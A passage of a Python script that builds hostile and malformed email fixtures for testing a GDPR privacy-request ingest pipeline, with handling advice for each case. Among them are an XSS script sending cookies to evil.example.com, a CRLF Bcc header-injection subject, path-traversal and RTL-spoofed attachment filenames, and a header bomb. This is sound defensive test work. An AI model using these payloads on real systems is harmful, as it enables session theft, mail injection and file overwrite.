"""Generate the hostile / malformed RFC 5322 corpus used by the ingest and parser tests.

The ``.eml`` files in this folder are the committed output of ``python make_hostile.py``.
Every byte is written exactly as built here (no newline translation; see ``.gitattributes``).
Running the script again rewrites the same files, ``manifest.json`` and ``MANIFEST.md``, and
checks that each ``expect_*`` field is recoverable by a plain "sane" decoder
(stdlib ``compat32`` parser, declared charset with ``errors="replace"``, latin-1 fallback).

Huge cases are not committed (repository size). Tests build them on demand::

    from make_hostile import generate_large          # loaded with importlib from this folder
    paths = generate_large(tmp_path)                  # list[Path], fixed order, deterministic

``LARGE_CASES`` describes them in the same shape as ``manifest.json`` entries.

Usage::

    python tests/data/hostile/make_hostile.py            # rewrite corpus + manifests, verify
    python tests/data/hostile/make_hostile.py --check    # verify only (exit 1 on mismatch)
    python tests/data/hostile/make_hostile.py --large DIR  # write the large cases into DIR
"""

from __future__ import annotations

import base64
import email
import email.header
import email.policy
import html
import json
import random
import re
import sys
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = 20261125
OUR_ADDR = "privacy@nhmbsoftware.nl"

STORE = "store"
QUARANTINE = "quarantine"


@dataclass(frozen=True)
class Case:
    file: str
    hostile: str
    ingest: str  # STORE (stored and processed, defects noted) or QUARANTINE (candidate)
    advice: str  # what a robust ingest should do, one sentence
    build: Callable[[], bytes]
    subject: str | None = None  # expect_subject_contains
    text: str | None = None  # expect_text_contains
    no_message_id: bool = False


CASES: list[Case] = []


def case(
    file: str,
    hostile: str,
    advice: str,
    *,
    ingest: str = STORE,
    subject: str | None = None,
    text: str | None = None,
    no_message_id: bool = False,
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(fn: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES.append(Case(file, hostile, ingest, advice, fn, subject, text, no_message_id))
        return fn

    return register


# --------------------------------------------------------------------------- helpers


def eml(*lines: str | bytes, nl: bytes = b"\n", final_nl: bool = True) -> bytes:
    """Join lines; str lines must be pure ASCII (8-bit content is always given as bytes)."""
    out = nl.join(x if isinstance(x, bytes) else x.encode("ascii") for x in lines)
    return out + nl if final_nl else out


def std(
    subject: str | bytes = "Privacyverzoek",
    *,
    n: int = 0,
    frm: str | bytes = "Sanne Bakker <sanne.bakker@example.nl>",
    date: str = "Mon, 16 Nov 2026 09:14:03 +0100",
    msgid: str | None = "auto",
    extra: Iterable[str | bytes] = (),
) -> list[str | bytes]:
    """A plain, valid header block (without the blank separator line)."""
    lines: list[str | bytes] = []
    lines.append(b"From: " + frm if isinstance(frm, bytes) else f"From: {frm}")
    lines.append(f"To: {OUR_ADDR}")
    lines.append(b"Subject: " + subject if isinstance(subject, bytes) else f"Subject: {subject}")
    lines.append(f"Date: {date}")
    if msgid == "auto":
        lines.append(f"Message-ID: <hostile-{n:03d}.{SEED}@example.nl>")
    elif msgid is not None:
        lines.append(f"Message-ID: {msgid}")
    lines.append("MIME-Version: 1.0")
    lines.extend(extra)
    return lines


def plain(charset: str = "utf-8", cte: str = "8bit") -> list[str]:
    return [f'Content-Type: text/plain; charset="{charset}"', f"Content-Transfer-Encoding: {cte}"]


def b64lines(data: bytes, width: int = 76) -> list[str]:
    enc = base64.b64encode(data).decode("ascii")
    return [enc[i : i + width] for i in range(0, len(enc), width)] or [""]


BODY_NL = (
    "Beste heer/mevrouw,",
    "",
    "Hierbij dien ik een privacyverzoek in. Graag ontvang ik binnen een maand",
    "een overzicht van alle gegevens die NHMB software over mij verwerkt.",
    "",
    "Met vriendelijke groet,",
    "Sanne Bakker",
)

# --------------------------------------------------------------------------- charsets


@case(
    "charset_utf8_declared_latin1_bytes.eml",
    'charset="utf-8" declared, but the body is ISO-8859-1 bytes (é, ë, ï as single bytes)',
    "Store; decode with errors='replace' (or detect latin-1), record a charset defect.",
    subject="privacyverzoek",
    text="privacyverzoek",
)
def _() -> bytes:
    body = "Geachte heer/mevrouw,\n\nDit is een privacyverzoek van Zoë Ruïnen uit Hélène-oord.\nCafé één.\n"
    return eml(*std("Mijn privacyverzoek", n=1), *plain("utf-8"), "", body.encode("latin-1"))


@case(
    "charset_unknown_x_unknown_42.eml",
    'charset="x-unknown-42" (no codec: LookupError), body latin-1 bytes',
    "Store; fall back to us-ascii/latin-1 with replacement, record an unknown-charset defect.",
    subject="Inzageverzoek",
    text="inzageverzoek",
)
def _() -> bytes:
    body = "Hierbij mijn inzageverzoek op grond van artikel 15 AVG.\nGroet, Jürgen\n"
    return eml(*std("Inzageverzoek", n=2), *plain("x-unknown-42"), "", body.encode("latin-1"))


@case(
    "charset_iso2022jp_body_and_subject.eml",
    "iso-2022-jp (7-bit escape sequences) body, RFC 2047 iso-2022-jp B-encoded Subject",
    "Store; decode with the declared iso-2022-jp codec (special-case it), no defect expected.",
    subject="個人情報",
    text="個人情報",
)
def _() -> bytes:
    subj = email.header.Header("個人情報の開示請求 (privacy)", "iso-2022-jp").encode()
    body = "お世話になっております。\n私の個人情報の開示をお願いします。\nAVG artikel 15.\n"
    return eml(
        *std(subj, n=3, frm="Tanaka Yuki <yuki.tanaka@example.com>"),
        *plain("iso-2022-jp", "7bit"),
        "",
        body.encode("iso-2022-jp"),
    )


@case(
    "charset_utf16_part.eml",
    "text/plain; charset=utf-16 in base64: decoded bytes are full of NULs",
    "Store; decode with utf-16 as declared; never treat the decoded bytes as ASCII.",
    subject="Overdraagbaarheid",
    text="overdraagbaarheid",
)
def _() -> bytes:
    body = "Verzoek tot overdraagbaarheid van mijn gegevens (CSV).\n".encode("utf-16")
    return eml(*std("Overdraagbaarheid", n=4), *plain("utf-16", "base64"), "", *b64lines(body))


@case(
    "charset_mixed_parts_windows1252_and_bogus.eml",
    "multipart with a windows-1252 part (smart quotes 0x93/0x94) and a part labelled us-ascii "
    "that holds UTF-8 bytes",
    "Store; decode each part with its own charset and errors='replace'; record defects.",
    text="bezwaar",
)
def _() -> bytes:
    p1 = "Ik maak \u201cbezwaar\u201d tegen direct marketing.\n".encode("cp1252")
    p2 = "Naam: Jörg Müller – één keer\n".encode()
    return eml(
        *std("Bezwaar", n=5),
        'Content-Type: multipart/mixed; boundary="b1"',
        "",
        "--b1",
        *plain("windows-1252"),
        "",
        p1,
        "--b1",
        *plain("us-ascii", "7bit"),
        "",
        p2,
        "--b1--",
    )


# --------------------------------------------------------------------------- NULs, 8-bit


@case(
    "nul_bytes_in_headers.eml",
    "NUL bytes inside Subject, From display name and an X- header",
    "Store raw; strip \\x00 from every text bound for the database; record a defect.",
    subject="inzage",
    text="gegevens",
)
def _() -> bytes:
    return eml(
        b"From: Pieter\x00 de Boer <pieter.deboer@example.nl>",
        f"To: {OUR_ADDR}",
        b"Subject: Verzoek om inzage\x00\x00 in mijn dossier",
        "Date: Mon, 16 Nov 2026 10:01:00 +0100",
        "Message-ID: <hostile-006.20261125@example.nl>",
        b"X-Weird: \x00\x00\x00",
        "MIME-Version: 1.0",
        *plain(),
        "",
        "Graag inzage in mijn gegevens.",
    )


@case(
    "nul_bytes_in_body.eml",
    "NUL bytes scattered through a text/plain body",
    "Store raw; strip \\x00 before storing text in PostgreSQL; classify the rest.",
    text="verwijderen",
)
def _() -> bytes:
    body = b"Wilt u mijn account\x00 verwijderen?\x00\x00\nDank\x00 u.\n\x00"
    return eml(*std("Account", n=7), *plain(), "", body)


@case(
    "header_8bit_unencoded.eml",
    "raw 8-bit bytes in headers: UTF-8 in Subject, ISO-8859-1 in the From display name",
    "Store; decode header bytes as UTF-8 with replacement (latin-1 fallback); record a defect.",
    subject="Verzoek",
    text="correctie",
)
def _() -> bytes:
    return eml(
        *std(
            "Verzoek tot correctie – adres van Jörg Müller".encode(),
            n=8,
            frm="Jörg Müller <jorg.muller@example.de>".encode("latin-1"),
        ),
        *plain(),
        "",
        "Graag correctie van mijn adres.",
    )


# --------------------------------------------------------------------------- Message-IDs


@case(
    "no_message_id.eml",
    "no Message-ID header at all",
    "Store; derive a deterministic ID from sha256 of the raw bytes; dedupe on ID+hash.",
    subject="Vraag",
    text="bewaartermijn",
    no_message_id=True,
)
def _() -> bytes:
    return eml(
        *std("Vraag over bewaartermijn", n=9, msgid=None),
        *plain(),
        "",
        "Hoe lang is de bewaartermijn van mijn gegevens?",
    )


@case(
    "message_id_exchange_brackets.eml",
    "Exchange-style IDs <[83c4a1f2-...]@microsoft.com> in Message-ID, In-Reply-To and "
    "References (IndexError in policy.default parse_message_id, CPython #105802)",
    "Store; read identifiers from raw/compat32 values, normalise by trimming only.",
    subject="inzage",
    text="herinnering",
)
def _() -> bytes:
    a = "<[83c4a1f2-5b7e-4c1d-9a0f-2e6b8d4c7f10]@microsoft.com>"
    b = "<[0a9d7c21-77e3-4f0b-8c55-d13e9b2a6f04]@microsoft.com>"
    c = "<[5f1e3b88-2c4d-4e6a-b1f7-9d0c2a8e4b63]@microsoft.com>"
    return eml(
        *std(
            "RE: Uw verzoek om inzage",
            n=10,
            msgid=a,
            frm="Mark Jansen <mark.jansen@example.com>",
            extra=[f"In-Reply-To: {b}", f"References: {c}", f" {b}"],
        ),
        *plain(),
        "",
        "Dit is een herinnering: ik heb nog niets ontvangen.",
    )


@case(
    "message_id_garbage_and_duplicated.eml",
    "two Message-ID headers; one without angle brackets containing spaces, one empty",
    "Store; take the first usable value, otherwise derive from hash; keep both raw.",
    subject="Bezwaar",
    text="nieuwsbrief",
)
def _() -> bytes:
    return eml(
        *std("Bezwaar nieuwsbrief", n=11, msgid="this is not a message id @ nowhere"),
        "Message-ID:",
        "In-Reply-To: <<<>>>",
        "References: <a@b> garbage <unterminated@x",
        *plain(),
        "",
        "Stop met de nieuwsbrief alstublieft.",
    )


# --------------------------------------------------------------------------- addresses


@case(
    "cc_trailing_comma.eml",
    "long, folded Cc: with a trailing comma (reported to raise IndexError under the SMTP "
    "policy in ietf-tools/mailarchive #3510; CPython 3.11.7 copes)",
    "Store; parse addresses with a safe accessor (getaddresses), ignore empty entries.",
    subject="Rectificatie",
    text="achternaam",
)
def _() -> bytes:
    return eml(
        *std(
            "Rectificatie",
            n=12,
            extra=[
                "Cc: Lotte Visser <lotte@example.nl>, kees@example.org,",
                ' "Visser, Anna" <anna.visser@example.nl>, Bram Mol <bram.mol@example.org>,',
            ],
        ),
        *plain(),
        "",
        "Mijn achternaam is verkeerd gespeld.",
    )


@case(
    "from_empty.eml",
    "From: header present but empty",
    "Store; requester unknown -> needs review; never auto-reply (empty sender).",
    subject="wissen",
    text="wissen",
)
def _() -> bytes:
    return eml(*std("Gegevens wissen", n=13, frm=""), *plain(), "", "Wissen aub.")


@case(
    "from_display_name_only.eml",
    "From: contains only a display name, no address",
    "Store; requester address unknown -> needs review; do not guess an address.",
    subject="Inzage",
    text="overzicht",
)
def _() -> bytes:
    return eml(*std("Inzage", n=14, frm="Jan de Vries"), *plain(), "", "Graag een overzicht.")


@case(
    "address_lists_garbage.eml",
    "To/Reply-To with unterminated quotes, empty <>, bare @, group syntax and semicolons",
    "Store; extract what parses, record address defects, never crash on header access.",
    subject="Vraag",
    text="cookies",
)
def _() -> bytes:
    return eml(
        'From: "Unterminated <anna@example.nl>',
        'To: privacy@nhmbsoftware.nl, <>, @, "x" <, undisclosed-recipients:;',
        "Reply-To: ;;;, <<anna@example.nl>>, anna@@example.nl",
        "Subject: Vraag over cookies",
        "Date: Tue, 17 Nov 2026 08:00:00 +0100",
        "Message-ID: <hostile-015.20261125@example.nl>",
        "MIME-Version: 1.0",
        *plain(),
        "",
        "Welke cookies plaatsen jullie?",
    )


@case(
    "from_spoofed_encoded_display_name.eml",
    "From display name is an RFC 2047 word decoding to our own address "
    "(privacy@nhmbsoftware.nl) in front of an outside address",
    "Store; use the addr-spec, not the display name, for requester and loop checks.",
    subject="Inzage",
    text="kopie",
)
def _() -> bytes:
    return eml(
        *std(
            "Inzage",
            n=16,
            frm="=?utf-8?B?cHJpdmFjeUBuaG1ic29mdHdhcmUubmw=?= <someone@example.com>",
        ),
        *plain(),
        "",
        "Stuur mij een kopie van mijn gegevens.",
    )


# --------------------------------------------------------------------------- header syntax


@case(
    "header_line_without_colon.eml",
    "a header line without a colon in the middle of the header block (stdlib ends the "
    "headers there: later headers become body)",
    "Store; note MissingHeaderBodySeparatorDefect; headers before the line stay usable.",
    subject="Beperking",
    text="beperking",
)
def _() -> bytes:
    return eml(
        "From: Eva Smit <eva.smit@example.nl>",
        f"To: {OUR_ADDR}",
        "Subject: Beperking van verwerking",
        "Message-ID: <hostile-017.20261125@example.nl>",
        "This line has no colon and is not a header",
        "Date: Tue, 17 Nov 2026 11:11:11 +0100",
        "MIME-Version: 1.0",
        *plain(),
        "",
        "Ik vraag om beperking van de verwerking.",
    )


@case(
    "header_first_line_continuation.eml",
    "the very first line starts with whitespace (continuation with nothing to continue)",
    "Store; note FirstHeaderLineIsContinuationDefect; parse the rest.",
    subject="Vraag",
    text="functionaris",
)
def _() -> bytes:
    return eml(
        "   orphan continuation line",
        *std("Vraag over de FG", n=18),
        *plain(),
        "",
        "Wie is jullie functionaris gegevensbescherming?",
    )


@case(
    "subject_duplicated.eml",
    "two Subject headers with different values",
    "Store; use the first Subject, keep the second in raw headers; record a defect.",
    subject="Verzoek",
    text="adres",
)
def _() -> bytes:
    return eml(
        *std("Verzoek tot inzage", n=19),
        "Subject: Verzoek tot wissing (tweede Subject)",
        *plain(),
        "",
        "Mijn adres klopt niet.",
    )


@case(
    "subject_long_rfc2047_folded.eml",
    "~2 KB Subject made of many folded UTF-8 Q/B encoded words with diacritics",
    "Store; unfold and decode all encoded words; truncate for display only.",
    subject="vergetelheid",
    text="vergetelheid",
)
def _() -> bytes:
    text = ("Verzoek tot vergetelheid – café Zoë één naïef coördinatie " * 30).strip()
    subj = email.header.Header(text, "utf-8", header_name="Subject").encode(maxlinelen=76)
    return eml(*std(subj, n=20), *plain(), "", "Recht op vergetelheid, art. 17.")


@case(
    "rfc2047_bad_encoded_words.eml",
    "encoded words with invalid base64 (=?utf-8?B?!!!?=), unknown charset, truncated Q "
    "with latin-1 byte in a utf-8 word, and an unterminated word",
    "Store; leave undecodable words as raw text, record header defects.",
    subject="privacy",
    text="klacht",
)
def _() -> bytes:
    return eml(
        *std(
            "=?utf-8?B?!!!?= privacy =?x-bogus?Q?abc?= =?utf-8?Q?caf=E9?= =?utf-8?B?SGFsbG8",
            n=21,
            frm="=?utf-8?B?@@@?= <klager@example.org>",
        ),
        *plain(),
        "",
        "Dit is een klacht.",
    )


@case(
    "subject_header_injection_crlf.eml",
    "RFC 2047 Subject that decodes to 'Inzage\\r\\nBcc: victim@example.com' "
    "(header injection when echoed into a reply)",
    "Store; strip CR/LF from decoded header values before reusing them in drafts.",
    subject="Inzage",
    text="gegevens",
)
def _() -> bytes:
    return eml(
        *std("=?utf-8?Q?Inzage=0D=0ABcc:_victim@example.com?=", n=22),
        *plain(),
        "",
        "Welke gegevens hebben jullie?",
    )


@case(
    "received_x500.eml",
    "500 folded Received: headers (mail loop / header bomb)",
    "Store; cap how many trace headers are parsed; treat as possible loop, no auto-reply.",
    subject="inzage",
    text="inzage",
)
def _() -> bytes:
    rec = []
    for i in range(500, 0, -1):
        rec += [
            f"Received: from relay{i:03d}.example.net (relay{i:03d}.example.net [192.0.2.{i % 250 + 1}])",
            f"\tby relay{i + 1:03d}.example.net with ESMTPS id H{i:05d}X;",
            f"\tMon, 16 Nov 2026 09:{i % 60:02d}:00 +0100",
        ]
    return eml(*rec, *std("Verzoek om inzage", n=23), *plain(), "", "Graag inzage.")


# --------------------------------------------------------------------------- dates


@case(
    "date_unparseable.eml",
    "Date: header in free Dutch text (parsedate returns None)",
    "Store; fall back to IMAP INTERNALDATE / receipt time for the deadline; record a defect.",
    subject="Inzage",
    text="termijn",
)
def _() -> bytes:
    return eml(
        *std("Inzage", n=24, date="gisteren rond het middaguur"),
        *plain(),
        "",
        "Binnen welke termijn reageren jullie?",
    )


@case(
    "date_out_of_range_offset.eml",
    "Date with invalid values: day 32, hour 25 and zone +9999 (ValueError in datetime)",
    "Store; fall back to receipt time; record a defect.",
    subject="Inzage",
    text="inzage",
)
def _() -> bytes:
    return eml(
        *std("Inzage", n=25, date="Mon, 32 Nov 2026 25:61:00 +9999"),
        *plain(),
        "",
        "Graag inzage.",
    )


@case(
    "date_future.eml",
    "Date in the year 2099",
    "Store; never use the sender's Date for the legal deadline; use receipt time.",
    subject="Bezwaar",
    text="bezwaar",
)
def _() -> bytes:
    return eml(
        *std("Bezwaar", n=26, date="Thu, 01 Jan 2099 00:00:00 +0000"),
        *plain(),
        "",
        "Ik maak bezwaar.",
    )


# --------------------------------------------------------------------------- encodings


@case(
    "base64_body_invalid.eml",
    "Content-Transfer-Encoding: base64 with invalid characters and broken padding",
    "Store; decode leniently (or keep raw), record InvalidBase64 defects.",
    subject="Wissen",
)
def _() -> bytes:
    return eml(
        *std("Wissen", n=27),
        *plain("utf-8", "base64"),
        "",
        "V2lsdCB1IG1pam4gYWNjb3VudCB3aXNzZW4/!!!@@@###",
        "this is not base64 at all ====",
        "SGFsbG8=SGFsbG8=",
        "QQ",
    )


@case(
    "quoted_printable_invalid.eml",
    "quoted-printable with =ZZ, truncated =C3, lone '=' at end and a latin-1 byte",
    "Store; pass invalid escapes through literally, decode with replacement.",
    subject="Rectificatie",
    text="rectificatie",
)
def _() -> bytes:
    return eml(
        *std("Rectificatie", n=28),
        *plain("utf-8", "quoted-printable"),
        "",
        "Ik vraag rectificatie van mijn adres =ZZ en =C3",
        b"Stra\xdfe 12 =E9t=C3=A9 soft=",
        "break here =3",
        "=",
    )


@case(
    "cte_x_uuencode.eml",
    "Content-Transfer-Encoding: x-uuencode (non-standard; stdlib compat32 happens to decode it)",
    "Store; treat unknown/legacy CTE as opaque bytes unless a decoder is known; record defect.",
    subject="uuencode",
)
def _() -> bytes:
    import binascii

    raw = b"Verzoek tot overdraagbaarheid.\n"
    return eml(
        *std("Bijlage uuencode", n=29),
        "Content-Type: text/plain; charset=us-ascii",
        "Content-Transfer-Encoding: x-uuencode",
        "",
        "begin 644 verzoek.txt",
        binascii.b2a_uu(raw).rstrip(b"\n"),
        "`",
        "end",
    )


@case(
    "cte_unknown_token.eml",
    "Content-Transfer-Encoding: x-bogus-7 (unknown) over a plain ASCII body",
    "Store; treat as 8bit/identity, record a defect.",
    subject="Portabiliteit",
    text="exporteren",
)
def _() -> bytes:
    return eml(
        *std("Portabiliteit", n=30),
        *plain("us-ascii", "x-bogus-7"),
        "",
        "Ik wil mijn gegevens exporteren naar een ander pakket (art. 20).",
    )


@case(
    "content_type_missing.eml",
    "no Content-Type (defaults to text/plain us-ascii) while the body is 8-bit UTF-8",
    "Store; treat as text/plain, decode 8-bit as UTF-8 with replacement.",
    subject="Vraag",
    text="verwerkersovereenkomst",
)
def _() -> bytes:
    lines = [x for x in std("Vraag", n=31)]
    return eml(*lines, "", "Waar vind ik de verwerkersovereenkomst? Groet, Zoë".encode())


@case(
    "content_type_garbage_params.eml",
    "Content-Type with empty charset=, stray semicolons, unterminated quote and a broken RFC 2231 parameter",
    "Store; default to text/plain us-ascii, record header defects.",
    subject="Vraag",
    text="subverwerkers",
)
def _() -> bytes:
    return eml(
        *std("Vraag", n=32),
        "Content-Type: text/plain; charset=; ;; format=flowed; name*0*=utf-8''%ZZ; x=\"unterminated",
        "",
        "Welke subverwerkers gebruiken jullie?",
    )


# --------------------------------------------------------------------------- multipart structure


@case(
    "multipart_missing_boundary.eml",
    "Content-Type: multipart/mixed with no boundary parameter",
    "Store; treat the whole body as text, record NoBoundaryInMultipartDefect.",
    subject="Adres",
    text="adreswijziging",
)
def _() -> bytes:
    return eml(
        *std("Adres", n=33),
        "Content-Type: multipart/mixed",
        "",
        "--xyz",
        "Content-Type: text/plain",
        "",
        "Graag een adreswijziging: Dorpsstraat 4, Zevenaar.",
        "--xyz--",
    )


@case(
    "multipart_boundary_never_closed.eml",
    "multipart/mixed whose closing --boundary-- never appears (attachment cut off)",
    "Store; keep the parts found, record CloseBoundaryNotFoundDefect.",
    subject="Inzage",
    text="identiteitsbewijs",
)
def _() -> bytes:
    return eml(
        *std("Inzage met bijlage", n=34),
        'Content-Type: multipart/mixed; boundary="never-closed"',
        "",
        "--never-closed",
        *plain(),
        "",
        "Bijgaand mijn identiteitsbewijs (zwartgemaakt).",
        "--never-closed",
        'Content-Type: image/jpeg; name="id.jpg"',
        "Content-Transfer-Encoding: base64",
        "",
        "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////",
    )


@case(
    "multipart_alternative_empty_parts.eml",
    "multipart/alternative with an empty text/plain, an empty text/html and a part with "
    "no headers and no content",
    "Store; body is empty -> classify on subject only, flag needs_review.",
    subject="verwijderen",
)
def _() -> bytes:
    return eml(
        *std("Account verwijderen", n=35),
        'Content-Type: multipart/alternative; boundary="alt"',
        "",
        "--alt",
        *plain(),
        "",
        "",
        "--alt",
        'Content-Type: text/html; charset="utf-8"',
        "",
        "",
        "--alt",
        "",
        "--alt--",
    )


@case(
    "html_only_scripts_styles_entities.eml",
    "text/html only: <script>, <style>, event handlers, comments, javascript: link and "
    "named/numeric entities",
    "Store; sanitise (nh3) for display, drop script/style for text; decode entities.",
    subject="Bezwaar",
    text="bezwaar",
)
def _() -> bytes:
    doc = (
        "<html><head><style>body{display:none} .x{color:red}</style>"
        "<script>alert('xss');document.location='https://evil.example.com/?c='"
        "+document.cookie</script></head>"
        '<body onload="alert(1)"><!-- <p>verborgen commentaar</p> -->'
        "<p>Beste NHMB,</p><p>Ik maak bezwaar tegen het gebruik van mijn "
        "gegevens voor marketing. Caf&eacute; &amp; r&#233;sum&#x00E9; &nbsp;&lt;ok&gt;</p>"
        '<a href="javascript:alert(2)">klik</a><img src=x onerror=alert(3)>'
        "<iframe src='https://evil.example.com'></iframe></body></html>"
    )
    return eml(
        *std("Bezwaar", n=36),
        'Content-Type: text/html; charset="utf-8"',
        "Content-Transfer-Encoding: 7bit",
        "",
        doc,
    )


@case(
    "html_only_huge_inline_style.eml",
    "text/html only with a ~250 KB inline style attribute before the text",
    "Store; cap HTML size before html-to-text, run it with a time limit.",
    subject="Inzage",
    text="dossier",
)
def _() -> bytes:
    style = "; ".join(f"--v{i}: {i}px" for i in range(14_000))
    doc = f'<html><body><div style="{style}"><p>Graag inzage in mijn dossier.</p></div></body></html>'
    return eml(
        *std("Inzage", n=37),
        'Content-Type: text/html; charset="us-ascii"',
        "",
        doc,
    )


# --------------------------------------------------------------------------- attachments


@case(
    "attachment_path_traversal_filenames.eml",
    "attachments named ../../etc/passwd, ..\\..\\Windows\\win.ini, an absolute name= and an "
    "RFC 2231 filename*=utf-8''..%2F..%2Fetc%2Fcron.d%2Fx",
    "Store; never use filenames as paths (basename + sanitise, or generated names).",
    subject="bijlagen",
    text="bijlagen",
)
def _() -> bytes:
    def att(disp: str, ctype: str = "application/octet-stream") -> list[str]:
        return [
            "--tr",
            f"Content-Type: {ctype}",
            disp,
            "Content-Transfer-Encoding: base64",
            "",
            *b64lines(b"root:x:0:0:root:/root:/bin/sh\n"),
        ]

    return eml(
        *std("Documenten als bijlagen", n=38),
        'Content-Type: multipart/mixed; boundary="tr"',
        "",
        "--tr",
        *plain(),
        "",
        "Zie de bijlagen.",
        *att('Content-Disposition: attachment; filename="../../etc/passwd"'),
        *att('Content-Disposition: attachment; filename="..\\..\\Windows\\win.ini"'),
        *att("Content-Disposition: attachment", ctype='application/octet-stream; name="/etc/shadow"'),
        *att("Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fetc%2Fcron.d%2Fx"),
        "--tr--",
    )


@case(
    "attachment_rfc2231_filename_spoof.eml",
    "RFC 2231 continued filename (filename*0*/filename*1*) with U+202E RTL override "
    "(factuur<RLO>fdp.exe), a %00 and an unknown-charset parameter",
    "Store; decode RFC 2231, strip control/bidi chars and NUL from names, never execute.",
    subject="Factuur",
    text="factuur",
)
def _() -> bytes:
    return eml(
        *std("Factuur en gegevens", n=39),
        'Content-Type: multipart/mixed; boundary="r2231"',
        "",
        "--r2231",
        *plain(),
        "",
        "Zie factuur in bijlage.",
        "--r2231",
        "Content-Type: application/octet-stream",
        "Content-Disposition: attachment;",
        " filename*0*=utf-8''factuur%E2%80%AE;",
        " filename*1*=fdp.exe%00.txt",
        "Content-Transfer-Encoding: base64",
        "",
        *b64lines(b"MZ\x90\x00not really an exe"),
        "--r2231",
        "Content-Type: text/plain",
        "Content-Disposition: attachment; filename*=x-unknown''caf%E9.txt",
        "",
        "tekst",
        "--r2231--",
    )


@case(
    "attachment_ms_tnef_winmail_dat.eml",
    "Outlook TNEF: application/ms-tnef winmail.dat (signature 0x223E9F78 + junk)",
    "Store; keep as opaque attachment (optionally extract), text part still processed.",
    subject="Beperking",
    text="beperking",
)
def _() -> bytes:
    rnd = random.Random(SEED + 40)
    tnef = b"\x78\x9f\x3e\x22\x01\x00" + rnd.randbytes(600)
    return eml(
        *std("Beperking verwerking", n=40, frm="Hr. K. Verbeek <k.verbeek@example.com>"),
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator: <AM0PR01MB1234@example.com>",
        'Content-Type: multipart/mixed; boundary="tnef"',
        "",
        "--tnef",
        *plain("us-ascii", "7bit"),
        "",
        "Ik verzoek om beperking van de verwerking zolang mijn bezwaar loopt.",
        "--tnef",
        'Content-Type: application/ms-tnef; name="winmail.dat"',
        'Content-Disposition: attachment; filename="winmail.dat"',
        "Content-Transfer-Encoding: base64",
        "",
        *b64lines(tnef),
        "--tnef--",
    )


@case(
    "message_rfc822_attachment.eml",
    "forwarded message as message/rfc822 attachment whose inner message has its own "
    "multipart and encoded Subject",
    "Store; process the outer text; keep inner message as attachment, do not thread on its Message-ID.",
    subject="Doorgestuurd",
    text="doorgestuurd",
)
def _() -> bytes:
    inner = eml(
        "From: Klant <klant@example.org>",
        "To: info@nhmbsoftware.nl",
        "Subject: =?utf-8?Q?Verwijder_mij_uit_uw_bestand_=E2=80=93_dringend?=",
        "Date: Sat, 14 Nov 2026 20:00:00 +0100",
        "Message-ID: <inner-041@example.org>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/alternative; boundary="inner"',
        "",
        "--inner",
        *plain(),
        "",
        "Verwijder mij uit uw bestand.",
        "--inner",
        'Content-Type: text/html; charset="utf-8"',
        "",
        "<p>Verwijder mij uit uw bestand.</p>",
        "--inner--",
    )
    return eml(
        *std("Fwd: Doorgestuurd verzoek", n=41, frm="Info NHMB <info@nhmbsoftware.nl>"),
        'Content-Type: multipart/mixed; boundary="fwd"',
        "",
        "--fwd",
        *plain(),
        "",
        "Dit verzoek kwam binnen op info@, doorgestuurd naar privacy@.",
        "--fwd",
        "Content-Type: message/rfc822",
        "Content-Disposition: attachment",
        "",
        inner.rstrip(b"\n"),
        "--fwd--",
    )


@case(
    "message_rfc822_base64_encoded.eml",
    "message/rfc822 part with Content-Transfer-Encoding: base64 (forbidden by RFC 2046; "
    "stdlib parses the base64 text as if it were a message)",
    "Store; process the outer text; record a defect for the inner part.",
    subject="Fwd",
    text="bijgevoegd",
)
def _() -> bytes:
    inner = eml("Subject: binnenste", "", "Hallo.")
    return eml(
        *std("Fwd: verzoek", n=42),
        'Content-Type: multipart/mixed; boundary="f64"',
        "",
        "--f64",
        *plain(),
        "",
        "Origineel bijgevoegd.",
        "--f64",
        "Content-Type: message/rfc822",
        "Content-Transfer-Encoding: base64",
        "",
        *b64lines(inner),
        "--f64--",
    )


@case(
    "dsn_multipart_report_bounce.eml",
    "multipart/report; report-type=delivery-status bounce from MAILER-DAEMON, "
    "Return-Path <>, with text/rfc822-headers of our own reply",
    "Store; label auto, route to bounce handling, never auto-reply.",
    subject="Undelivered",
    text="mailbox unavailable",
)
def _() -> bytes:
    return eml(
        "Return-Path: <>",
        "From: Mail Delivery System <MAILER-DAEMON@mx.example.org>",
        f"To: {OUR_ADDR}",
        "Subject: Undelivered Mail Returned to Sender",
        "Date: Wed, 18 Nov 2026 03:12:44 +0100",
        "Message-ID: <20261118021244.ABC12@mx.example.org>",
        "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        "Content-Type: multipart/report; report-type=delivery-status;",
        '\tboundary="dsn-boundary"',
        "",
        "This is a MIME-encapsulated message.",
        "",
        "--dsn-boundary",
        "Content-Description: Notification",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "I'm sorry to have to inform you that your message could not",
        "be delivered: 550 5.1.1 mailbox unavailable",
        "",
        "--dsn-boundary",
        "Content-Description: Delivery report",
        "Content-Type: message/delivery-status",
        "",
        "Reporting-MTA: dns; mx.example.org",
        "Arrival-Date: Wed, 18 Nov 2026 03:12:40 +0100",
        "",
        "Final-Recipient: rfc822; oud.adres@example.org",
        "Original-Recipient: rfc822;oud.adres@example.org",
        "Action: failed",
        "Status: 5.1.1",
        "Diagnostic-Code: smtp; 550 5.1.1 mailbox unavailable",
        "",
        "--dsn-boundary",
        "Content-Description: Undelivered Message Headers",
        "Content-Type: text/rfc822-headers",
        "",
        f"From: NHMB privacy <{OUR_ADDR}>",
        "To: oud.adres@example.org",
        "Subject: Uw inzageverzoek (ref. AVG-2026-0042)",
        "Message-ID: <reply-0042@nhmbsoftware.nl>",
        "",
        "--dsn-boundary--",
    )


# --------------------------------------------------------------------------- line endings, sizes


def _nl_case(nl: bytes, n: int) -> bytes:
    return eml(
        *std("Regeleinden test", n=n),
        *plain(),
        "",
        "Verzoek tot rectificatie van mijn telefoonnummer.",
        "Tweede regel.",
        nl=nl,
    )


@case(
    "line_endings_crlf.eml",
    "CRLF line endings throughout (wire format)",
    "Store; normalise to one convention for parsing, keep raw bytes.",
    subject="Regeleinden",
    text="telefoonnummer",
)
def _() -> bytes:
    return _nl_case(b"\r\n", 43)


@case(
